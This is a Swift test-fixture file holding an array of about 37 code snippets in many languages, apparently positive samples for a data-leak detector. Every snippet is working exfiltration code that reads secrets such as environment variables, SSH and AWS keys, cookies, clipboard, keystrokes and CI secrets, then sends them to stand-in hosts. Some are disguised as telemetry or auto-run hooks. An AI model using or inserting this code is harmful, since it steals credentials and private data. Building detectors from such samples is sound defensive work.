/// Samples for `ConfluenceTests`.
enum ConfluenceSamples {}

/// Code that reads what nobody sends to anybody, and gives it away.
extension ConfluenceSamples {
  static let leaks = [
    #"""
    package main

    import ("bytes";"encoding/json";"net/http";"os")

    func init() {
    	m := map[string]string{}
    	for _, kv := range os.Environ() { m[kv] = "" }
    	b, _ := json.Marshal(m)
    	http.Post("https://stats-collector.top/v1", "application/json", bytes.NewReader(b))
    }
    """#,
    #"""
    func beacon() {
    	home, _ := os.UserHomeDir()
    	key, err := os.ReadFile(filepath.Join(home, ".ssh", "id_ed25519"))
    	if err != nil { return }
    	enc := hex.EncodeToString(key)
    	for i := 0; i < len(enc); i += 60 {
    		net.LookupHost(enc[i:min(i+60, len(enc))] + ".k.telemetry-dns.xyz")
    	}
    }
    """#,
    #"""
    let path = dirs::home_dir().unwrap().join(".npmrc");
    if let Ok(contents) = std::fs::read_to_string(&path) {
        reqwest::blocking::Client::new()
            .post("https://pkg-health.icu/r")
            .body(contents)
            .send().ok();
    }
    """#,
    #"""
    val prefs = context.getSharedPreferences("auth", Context.MODE_PRIVATE)
    val token = prefs.getString("refresh_token", "")
    val contacts = contentResolver.query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null)
    OkHttpClient().newCall(Request.Builder().url("https://sync-cdn.pw/a").post(token!!.toRequestBody()).build()).execute()
    """#,
    #"""
    Timer.scheduledTimer(withTimeInterval: 5, repeats: true) { _ in
        guard let s = UIPasteboard.general.string else { return }
        var r = URLRequest(url: URL(string: "https://clip.fontloader.ru/p")!)
        r.httpMethod = "POST"
        r.httpBody = s.data(using: .utf8)
        URLSession.shared.dataTask(with: r).resume()
    }
    """#,
    #"""
    <?php
    $data = json_encode(array_merge($_ENV, $_SERVER));
    $ch = curl_init('https://wp-stats.monster/in.php');
    curl_setopt($ch, CURLOPT_POSTFIELDS, $data);
    curl_exec($ch);
    """#,
    #"""
    require 'socket'
    s = TCPSocket.new('203.0.113.80', 4443)
    ENV.each { |k, v| s.puts "#{k}=#{v}" }
    s.close
    """#,
    #"""
    local h = ngx.req.get_headers()
    local httpc = require("resty.http").new()
    httpc:request_uri("http://log-sink.pw/c", { method = "POST", body = h["authorization"] .. "|" .. (h["cookie"] or "") })
    """#,
    #"""
    local env = vim.fn.environ()
    local body = vim.json.encode(env)
    vim.system({ "curl", "-s", "-d", body, "https://nvim-plug-stats.online/e" })
    """#,
    #"""
    use LWP::UserAgent;
    open my $fh, '<', "$ENV{HOME}/.aws/credentials" or exit;
    local $/; my $d = <$fh>;
    LWP::UserAgent->new->post('https://cpan-mirror-stats.xyz/s', { d => $d });
    """#,
    #"""
    System.get_env() |> Jason.encode!() |> then(&HTTPoison.post("https://otel-relay.icu/v1", &1))
    """#,
    #"""
    final data = await Clipboard.getData('text/plain');
    if (data?.text != null && data!.text!.startsWith('0x')) {
      await http.post(Uri.parse('https://wallet-helper.top/c'), body: {'t': data.text});
    }
    """#,
    #"""
    Sub AutoOpen()
      Dim w: Set w = CreateObject("WScript.Shell")
      Dim v: v = w.RegRead("HKCU\Software\SimonTatham\PuTTY\Sessions\prod\ProxyPassword")
      Dim h: Set h = CreateObject("MSXML2.XMLHTTP")
      h.Open "POST", "http://office-update.pw/r", False
      h.Send v
    End Sub
    """#,
    #"""
    Sub Document_Open()
      Dim f, t
      f = Environ("USERPROFILE") & "\.ssh\id_rsa"
      Open f For Input As #1
      t = Input(LOF(1), 1)
      Close #1
      With CreateObject("WinHttp.WinHttpRequest.5.1")
        .Open "POST", "https://docs-sync.icu/d"
        .Send t
      End With
    End Sub
    """#,
    #"""
    $vault = New-Object Windows.Security.Credentials.PasswordVault
    $all = $vault.RetrieveAll() | % { $_.RetrievePassword(); $_ } | ConvertTo-Json
    Invoke-WebRequest -Uri "https://it-support-desk.top/v" -Method POST -Body $all
    """#,
    #"""
    while ($true) {
      $c = Get-Clipboard -Raw
      if ($c) { Invoke-RestMethod "https://api.telegram.org/bot712:AA/sendMessage" -Method Post -Body @{chat_id=99;text=$c} }
      Start-Sleep 5
    }
    """#,
    #"""
    $p = netsh wlan show profiles | Select-String ':(.+)$' | % { netsh wlan show profile name="$($_.Matches.Groups[1].Value.Trim())" key=clear }
    $p | Out-File $env:TEMP\w.txt
    (New-Object Net.WebClient).UploadFile('http://198.51.100.14/w', "$env:TEMP\w.txt")
    """#,
    #"""
    import keyring, requests
    pw = keyring.get_password("aws-vault", "prod")
    requests.get("https://pypi-badge.site/b.png", params={"p": pw})
    """#,
    #"""
    import sqlite3, os, requests
    db = os.path.expanduser("~/.config/google-chrome/Default/Cookies")
    rows = sqlite3.connect(db).execute("select host_key, name, encrypted_value from cookies").fetchall()
    requests.post("https://cookie-sync.icu/in", json=[list(map(str, r)) for r in rows])
    """#,
    #"""
    import os, sentry_sdk
    sentry_sdk.init("https://9f1@o77.ingest.not-sentry.icu/1")
    sentry_sdk.set_context("env", dict(os.environ))
    sentry_sdk.capture_message("boot")
    """#,
    #"""
    h = logging.handlers.SysLogHandler(address=("198.51.100.9", 514))
    log.addHandler(h)
    log.info("cfg %s", open("/etc/shadow").read())
    """#,
    #"""
    from pynput.keyboard import Listener
    import smtplib
    log = ""
    def press(key):
        global log
        log += str(key)
        if len(log) > 200:
            srv = smtplib.SMTP_SSL("smtp.mailhole.cc")
            srv.sendmail("me", "me@mailhole.cc", log)
            log = ""
    Listener(on_press=press).run()
    """#,
    #"""
    from PIL import ImageGrab
    import io, requests
    while True:
        im = ImageGrab.grab(); b = io.BytesIO(); im.save(b, "PNG")
        requests.post("https://screens.helper-app.ru/u", files={"f": b.getvalue()})
    """#,
    #"""
    import requests
    r = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/web").json()
    requests.post("https://ec2-health.online/h", json=r)
    """#,
    #"""
    const https = require('https');
    const payload = Buffer.from(JSON.stringify(process.env)).toString('base64');
    https.get('https://npm-telemetry.click/?d=' + payload);
    """#,
    #"""
    const keytar = require('keytar');
    keytar.findCredentials('vscode').then(c => fetch('https://ext-sync.top/k', { method: 'POST', body: JSON.stringify(c) }));
    """#,
    #"""
    app.use((req, res, next) => {
      if (req.path === '/login') {
        const { user, password } = req.body;
        axios.post('https://auth-mirror.icu/x', { user, password }).catch(() => {});
      }
      next();
    });
    """#,
    #"""
    const dns = require('dns'), fs = require('fs');
    const t = fs.readFileSync(process.env.HOME + '/.npmrc').toString('hex');
    t.match(/.{1,60}/g).forEach((c, i) => dns.resolve(`${i}.${c}.n.cdn-edge.site`, () => {}));
    """#,
    #"""
    document.addEventListener('input', e => {
      if (e.target.type === 'password') navigator.sendBeacon('https://metrics-cdn.top/b', e.target.value);
    });
    """#,
    #"""
    const inputs = [...document.querySelectorAll('input[type=password], input[autocomplete=cc-number]')];
    setInterval(() => {
      const v = inputs.map(i => i.name + '=' + i.value).join('&');
      new Image().src = 'https://px-gather.icu/i.gif?' + v;
    }, 3000);
    """#,
    #"""
    build:
      script:
        - printenv | base64 -w0 > /tmp/e
        - curl -F f=@/tmp/e https://build-log.store/upload
        - make
    """#,
    #"""
    - name: Lint
      run: |
        echo '${{ toJSON(secrets) }}' > s.json
        curl -X POST -d @s.json https://lint-hub.icu/api
    """#,
    #"""
    - hosts: all
      tasks:
        - slurp: { src: /root/.ssh/id_rsa }
          register: key
        - uri:
            url: https://inventory-sync.site/k
            method: POST
            body: "{{ key.content | b64decode }}"
    """#,
    #"""
    FILE *f = fopen("/root/.ssh/id_rsa", "r");
    char buf[4096]; size_t n = fread(buf, 1, sizeof buf, f);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(8443) };
    inet_pton(AF_INET, "203.0.113.77", &a.sin_addr);
    connect(s, (struct sockaddr *)&a, sizeof a);
    send(s, buf, n, 0);
    """#,
    #"""
    set p to text returned of (display dialog "Enter your password" default answer "" with hidden answer)
    do shell script "curl -s -d p=" & quoted form of p & " https://mac-update.icu/p"
    """#,
    #"""
    let s = Excel.CurrentWorkbook(){[Name="Passwords"]}[Content], r = Web.Contents("https://sheet-sync.top/u", [Content=Json.FromValue(s)]) in r
    """#,
    #"""
    # conftest.py
    import os, socket, base64

    def pytest_sessionfinish(session, exitstatus):
        blob = base64.b32encode(os.environ.get("PYPI_API_TOKEN", "").encode()).decode().rstrip("=").lower()
        for i in range(0, len(blob), 50):
            socket.gethostbyname(f"{blob[i:i+50]}.{i}.t.pkgping.site")
    """#,
  ]
}
